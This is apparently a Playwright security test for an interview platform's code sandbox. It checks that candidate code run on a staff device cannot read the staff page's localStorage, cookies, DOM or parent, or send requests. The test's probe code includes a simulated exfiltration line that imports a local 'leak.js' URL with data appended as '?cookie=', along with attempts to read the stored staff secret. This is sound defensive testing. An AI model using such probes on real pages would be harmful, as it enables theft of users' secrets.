/**
 * Candidates' code on a staff device runs in a sandboxed frame of its own opaque origin (worker/sandbox/frame-port.ts)
 * that starts the sandbox worker. Proved from both sides in Chromium: the candidate's code, run against the hidden
 * tests on the interviewer's device, finds no origin, storage, DOM, parent or network, and cannot send a request
 * even through import(); and the frame's own realm (where code that got past the worker's lockdown would land) is
 * refused the staff page's localStorage, cookies, IndexedDB and DOM, and any request with credentials.
 * (A run stopped for its memory is tested in Node, tests/integration/code-sandbox.test.ts.)
 */
import http from 'node:http';
import type { Frame } from '@playwright/test';
import { codingScoreKey, readScore } from '../../src/sync/answer-results';
import { test, expect, codingQuestion, guestAtCodingQuestion, inviteLink, planOf, publishAndInvite, serverSees } from './pages/guest-pages';

/** What the staff page holds that candidate code must never read. */
const STAFF_SECRET = 'staff-secret-5b1e';

async function submitCode(page: import('@playwright/test').Page, code: string): Promise<void> {
  await page.getByLabel('Your code').fill(code);
  await page.getByRole('button', { name: /^Submit (code|changes)$/ }).click();
  await expect(page.getByText('Code submitted.')).toBeVisible();
}

test('candidate code in the staff sandbox reaches no storage, cookie, DOM or network of the interviewer’s page', async ({ guestContext, server }) => {
  test.setTimeout(180_000);
  const id = 'staff-sandbox-reach';
  const link = await publishAndInvite(server, planOf(id, [codingQuestion('q-code')]), 'Mallory');

  const requests: string[] = [];
  const outside = http.createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end('export default 1;');
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const outsideUrl = `http://127.0.0.1:${(outside.address() as { port: number }).port}/leak.js`;
  try {
    const interviewer = await (await guestContext()).newPage();
    await interviewer.goto(await inviteLink(server, id, 'interviewer', 'Ivy Interviewer'));
    await interviewer.evaluate((secret) => {
      localStorage.setItem('staff-secret', secret);
      document.cookie = `staff-secret=${secret}; path=/`;
    }, STAFF_SECRET);

    const guest = await (await guestContext()).newPage();
    await guestAtCodingQuestion(guest, link);
    // Each case waits a moment, so the frame lives long enough to be looked into from outside.
    await submitCode(
      guest,
      [
        'async function sum(values) {',
        '  await new Promise((r) => setTimeout(r, 1000));',
        '  const g = globalThis;',
        '  const out = [];',
        '  const probe = (name, read) => { try { const v = read(); out.push(name + "=" + (typeof v === "string" ? v : typeof v)); } catch (e) { out.push(name + "!" + e.name); } };',
        '  probe("origin", () => g.origin);',
        '  for (const name of ["localStorage", "sessionStorage", "indexedDB", "caches", "cookieStore", "document", "parent", "top", "fetch", "XMLHttpRequest", "WebSocket"]) probe(name, () => g[name]);',
        '  let imported;',
        `  try { await import(${JSON.stringify(outsideUrl)} + "?cookie=" + values.join("-")); imported = "loaded"; } catch { imported = "refused"; }`,
        '  out.push("import=" + imported);',
        '  return out.join(" ");',
        '}',
      ].join('\n'),
    );

    // The frame's own realm: an opaque origin that is refused everything of the staff page. The frame that runs the
    // code (a spare started ahead while the coding question is on, taken by this run) says so on its element.
    const running = interviewer.locator('[data-testid="code-sandbox-frame"][data-sandbox="run"]');
    await expect(running).toHaveCount(1, { timeout: 90_000 });
    const frame: Frame | null = await (await running.elementHandle())!.contentFrame();
    if (!frame) throw new Error('the running sandbox frame has no document');
    const realm = await frame.evaluate(async (serverUrl) => {
      const attempt = async (read: () => unknown) => {
        try {
          const v = await read();
          return `value:${typeof v === 'string' ? v : typeof v}`;
        } catch (e) {
          return `refused:${(e as Error).name}`;
        }
      };
      return {
        origin: self.origin,
        localStorage: await attempt(() => localStorage.getItem('staff-secret')),
        cookie: await attempt(() => document.cookie),
        indexedDB: await attempt(() => indexedDB.databases()),
        parentDocument: await attempt(() => (parent as Window).document.title),
        parentStorage: await attempt(() => (parent as Window).localStorage.getItem('staff-secret')),
        fetchWithCredentials: await attempt(() => fetch(`${serverUrl}/api/host-links`, { credentials: 'include' }).then((r) => r.status)),
      };
    }, server.url);
    expect(realm).toEqual({
      origin: 'null',
      localStorage: 'refused:SecurityError',
      cookie: 'refused:SecurityError',
      indexedDB: 'refused:SecurityError',
      parentDocument: 'refused:SecurityError',
      parentStorage: 'refused:SecurityError',
      fetchWithCredentials: 'refused:TypeError',
    });

    // The candidate's code, run against the hidden tests on the interviewer's device, found nothing.
    const found =
      'origin=null localStorage=undefined sessionStorage=undefined indexedDB=undefined caches=undefined cookieStore=undefined document=undefined parent=undefined top=undefined fetch=undefined XMLHttpRequest=undefined WebSocket=undefined import=refused';
    const result = interviewer.getByTestId('answer-results').locator('[data-question-id="q-code"]').getByTestId('ai-coding-score');
    await expect(result).toHaveAttribute('data-passed', '0', { timeout: 60_000 });
    await result.getByText('Every test (3)').click();
    await expect(result.getByTestId('test-verdict').nth(2)).toContainText(`returned ${JSON.stringify(found)}, expected 0`);
    await serverSees(server, `${id}.assessment`, (d) => {
      const score = readScore(d, codingScoreKey('q-code'));
      return score?.kind === 'coding' && score.tests.every((t) => t.got === JSON.stringify(found));
    }, 'every test returning what the code found');
    // No request left, not even through import(); the staff's secret is where it was and nowhere else.
    expect(requests).toEqual([]);
    expect(await interviewer.evaluate(() => localStorage.getItem('staff-secret'))).toBe(STAFF_SECRET);
    // Each run's frame is removed with its run; what remains is at most the one spare, which has run nothing.
    await expect(running).toHaveCount(0);
    expect(frame.isDetached()).toBe(true);
    await expect(interviewer.locator('[data-testid="code-sandbox-frame"]:not([data-sandbox="spare"])')).toHaveCount(0);
    expect(await interviewer.getByTestId('code-sandbox-frame').count()).toBeLessThanOrEqual(1);
  } finally {
    outside.close();
  }
});
